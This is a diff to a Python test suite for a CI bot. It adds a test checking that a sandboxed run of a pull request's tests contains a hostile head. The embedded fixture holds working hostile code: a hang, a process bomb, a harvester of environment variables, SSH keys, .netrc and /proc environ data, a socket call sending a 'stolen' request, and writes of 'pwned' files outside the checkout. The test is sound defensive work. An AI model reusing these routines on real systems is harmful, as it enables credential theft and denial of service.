@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -75,7 +76,11 @@ def gathered(stage: Stage, checkout: Repo, *rounds: list[dict[str, str]]) -> Pat
 
 
 def verify(
-    stage: Stage, checkout: Repo, draft: Path, **environment: str
+    stage: Stage,
+    checkout: Repo,
+    draft: Path,
+    *arguments: str,
+    **environment: str,
 ) -> subprocess.CompletedProcess[str]:
     """Run the middle job as the runner does: in the checkout, without any secret."""
     own = json.loads(draft.read_text())
@@ -83,7 +88,7 @@ def verify(
     there = stage.folder / "for-verify.json"
     there.write_text(json.dumps(own))
     return subprocess.run(
-        [sys.executable, "-I", "-m", "bot", "run"],
+        [sys.executable, "-I", "-m", "bot", *(arguments or ("run",))],
         cwd=checkout.root,
         env={
             **checkout.environ,
@@ -207,3 +212,122 @@ def test_keys_and_tests_are_never_in_one_job(stage, checkout):
     assert done.returncode == 2
     assert "ANTHROPIC_API_KEY" in done.stdout + done.stderr
     assert not (stage.folder / "verdicts.json").exists()
+
+
+# What the head of a pull request may do when its tests are run: the test itself is
+# harmless, so that nothing stops it before.
+HOSTILE = """\
+import os
+import pathlib
+import socket
+import subprocess
+import time
+
+
+def total(prices):
+    return sum(prices)
+
+
+def hang():
+    while True:
+        time.sleep(1)
+
+
+def bomb():
+    while True:
+        subprocess.Popen(["sleep", "NUMBER"])
+
+
+def steal():
+    said = [f"{k}={v}" for k, v in os.environ.items()]
+    for path in (pathlib.Path.home() / ".ssh" / "id", "HOME/.ssh/id", "HOME/.netrc"):
+        try:
+            said.append(pathlib.Path(path).read_text())
+        except OSError as exc:
+            said.append(type(exc).__name__)
+    for process in pathlib.Path("/proc").glob("[0-9]*/environ"):
+        try:
+            said.append(process.read_bytes().decode("utf-8", "replace"))
+        except OSError:
+            pass
+    return " ".join(said)
+
+
+def call():
+    with socket.create_connection(("127.0.0.1", PORT), 2) as there:
+        there.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
+    return "reached"
+
+
+def write():
+    done = []
+    for folder in ("OUTSIDE", "HOME", "/tmp", "/var/tmp"):
+        try:
+            (pathlib.Path(folder) / "pwned-NAME").write_text("x")
+            done.append(folder)
+        except OSError:
+            pass
+    return done
+"""
+SECRET = "correct-horse-battery-staple"
+
+
+def _harmless(name: str, line: str) -> dict[str, str]:
+    code = f"from shop.till import {name}\n\n\ndef test_{name}():\n    {line}\n"
+    return till.suggested(f"test_{name}", code, name)
+
+
+def test_nothing_gets_out_of_a_hostile_head_and_everything_is_killed(
+    stage, checkout, tmp_path
+):
+    outside, home = tmp_path / "outside", Path(checkout.environ["HOME"])
+    outside.mkdir()
+    (home / ".ssh").mkdir()
+    for name in (".ssh/id", ".netrc"):
+        (home / name).write_text(SECRET)
+    source = HOSTILE.replace("PORT", stage.server.base_url.rpartition(":")[2])
+    number = str(100_000 + os.getpid())
+    words = {"OUTSIDE": outside, "HOME": home, "NAME": tmp_path.name, "NUMBER": number}
+    for word, value in words.items():
+        source = source.replace(word, str(value))
+    checkout.git("checkout", "-q", "-b", "hostile", "origin/change")
+    checkout.commit({"shop/till.py": source})
+    checkout.git("push", "-q", "origin", "HEAD:change")
+    checkout.git("checkout", "-q", "main")
+    checkout.git("fetch", "-q", "origin")
+    draft = gathered(
+        stage,
+        checkout,
+        [
+            _harmless("hang", "assert hang() == 1"),
+            _harmless("bomb", "assert bomb() == 1"),
+            _harmless("steal", "assert steal() == 1"),
+            _harmless("call", "assert call() == 'reached'"),
+            _harmless("write", "assert write() == ['/tmp', '/var/tmp']"),
+        ],
+        [],
+    )
+    asked = len(stage.server.requests)
+    secrets = {"INPUT_GITHUB_TOKEN": SECRET, "ROUTEBOT_MARKER_KEY": SECRET}
+    options = ("verify", str(stage.folder / "for-verify.json"), "--timeout", "3")
+    out = ("--out", str(stage.folder / "verdicts.json"))
+    done = verify(stage, checkout, draft, *options, *out, **secrets)
+    assert done.returncode == 0, done.stderr
+    ends = [(each["end"], each["reason"]) for each in said(stage)["tests"]]
+    assert ends[0] == ("dropped", "did not end within 3 s and was killed")
+    assert ends[1] == ("dropped", "started more processes than the 64 it may")
+    assert SECRET not in json.dumps(said(stage)) + done.stdout + done.stderr
+    # Its own loopback is another one, where nobody listens.
+    assert ends[3] == ("dropped", "does not run")
+    assert ends[4][0] == "kept", ends[4]
+    assert len(stage.server.requests) == asked
+    assert list(outside.iterdir()) == []
+    left = f"pwned-{tmp_path.name}"
+    assert not any((Path(p) / left).exists() for p in ("/tmp", "/var/tmp", home))
+    running = subprocess.run(
+        ["pgrep", "-f", f"^sleep {number}$"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert running.stdout == ""
